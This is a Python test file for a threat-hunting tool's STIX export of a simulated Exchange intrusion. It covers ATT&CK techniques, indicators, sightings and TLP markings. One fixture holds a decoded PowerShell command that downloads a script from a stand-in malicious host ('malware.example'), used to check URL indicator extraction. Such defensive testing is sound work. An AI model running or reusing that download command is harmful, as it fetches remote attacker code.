"""The hunt's STIX objects, read back with the library of the standard's own authors."""

from __future__ import annotations

from typing import Any

import msgspec
import stix2
from sample_conversations import conversations
from sample_hunt import calm, hostile, hunt, hunt_run, large, story

from tocsin.model.hunt import Hunt
from tocsin.report import output


def text(found: Hunt | None = None) -> str:
    return output("stix").render(hunt_run(found), lambda words: words, "en")


def bundle(found: Hunt | None = None) -> Any:
    return stix2.parse(text(found), allow_custom=False)


def of(kind: str, found: Any) -> list[Any]:
    return [each for each in found.objects if each.type == kind]


def test_the_break_in_uses_the_techniques_under_mitres_own_names() -> None:
    found = bundle()
    (campaign,) = of("campaign", found)
    assert campaign.name == "Intrusion into Exchange servers, from 2026-11-05"
    patterns = {each.id: each for each in of("attack-pattern", found)}
    used = {
        patterns[each.target_ref].external_references[0].external_id
        for each in of("relationship", found)
        if each.relationship_type == "uses"
    }
    assert used == {technique for each in story() for technique in each.attack}
    # The id of T1505.003 in MITRE's own bundle.
    assert "attack-pattern--5d0d3609-d06d-49e1-b9c9-b544e0c618cb" in patterns


def test_addresses_are_indicators_by_what_came_of_them() -> None:
    sure = {each.name: each.confidence for each in of("indicator", bundle())}
    assert sure["198.51.100.7"] == 80
    assert sure["203.0.113.7"] == 25
    assert "10.20.4.13" not in sure, "an address inside is nobody's indicator"
    assert sure["wsbk.aspx"] == 60
    assert "autodiscover.json" not in sure, "a page that Exchange ships"


def test_a_link_in_what_the_intruder_ran_is_an_indicator_one_to_a_server_of_ours_is_none() -> None:
    dump = story()[6]
    event = msgspec.structs.replace(
        dump.events[0],
        decoded={"command.base64": "iwr http://malware.example:8080/p.ps1; "
                                   "iwr https://ex05.corp.contoso.example/x; iwr http://10.0.0.9/y"},
    )  # fmt: skip
    found = msgspec.structs.replace(dump, events=(event,))
    others = tuple(each for each in hunt().findings if each.id != dump.id)
    made = bundle(msgspec.structs.replace(hunt(), findings=(found, *others)))
    urls = {each.name for each in of("indicator", made) if "url:" in each.pattern}
    assert urls == {"http://malware.example:8080/p.ps1"}


def test_sightings_say_what_how_often_when_and_where() -> None:
    found = bundle()
    by_id = {each.id: each for each in found.objects}
    sightings = {by_id[each.sighting_of_ref].get("name"): each for each in of("sighting", found)}
    whole = sightings["Intrusion into Exchange servers, from 2026-11-05"]
    assert whole["count"] == 4322
    assert str(whole.first_seen) == "2026-11-05 03:11:02+00:00"
    assert str(whole.last_seen) == "2026-11-11 04:40:12+00:00"
    assert sightings["Protocol Tunneling"]["count"] == 4298
    assert by_id[whole.where_sighted_refs[0]].name == "contoso.example"
    data = [by_id[each] for each in whole.observed_data_refs]
    assert {by_id[ref].type for each in data for ref in each.object_refs} == {
        "ipv4-addr", "file", "user-account",
    }  # fmt: skip


def test_accounts_are_for_nobody_else_and_nothing_else_of_the_house_leaves_it() -> None:
    found = bundle()
    red, amber = stix2.TLP_RED["id"], stix2.TLP_AMBER["id"]
    accounts = of("user-account", found)
    assert {each.account_login for each in accounts} >= {"administrator@contoso.example"}
    marked = {each.id for each in found.objects if red in (each.get("object_marking_refs") or ())}
    assert {each.id for each in accounts} <= marked
    for each in found.objects:
        if each.type not in ("marking-definition", "identity", "attack-pattern"):
            assert each.object_marking_refs == [red if each.id in marked else amber], each.type
    shared = [each.serialize() for each in found.objects if each.id not in marked]
    for private in ("EX03", "EX05", "administrator@", "svc-archive", "lena.vogt"):
        assert not [each for each in shared if private in each], private


def test_two_runs_give_the_same_bundle() -> None:
    run = hunt_run()
    later = msgspec.structs.replace(
        run, finished=run.finished.replace(year=2027), inputs=("elsewhere",)
    )
    render = output("stix").render
    assert render(run, str, "en") == render(later, str, "fr")


def test_mails_and_logs_share_one_bundle() -> None:
    run = msgspec.structs.replace(hunt_run(), conversations=conversations())
    made = stix2.parse(output("stix").render(run, str, "en"), allow_custom=False)
    assert len(of("campaign", made)) == 4
    assert len(of("identity", made)) == 2


def test_hostile_and_empty_hunts_make_a_valid_bundle() -> None:
    bundle(hostile())
    assert of("indicator", bundle(calm())) == []
    assert len(text(large())) < 8_000_000
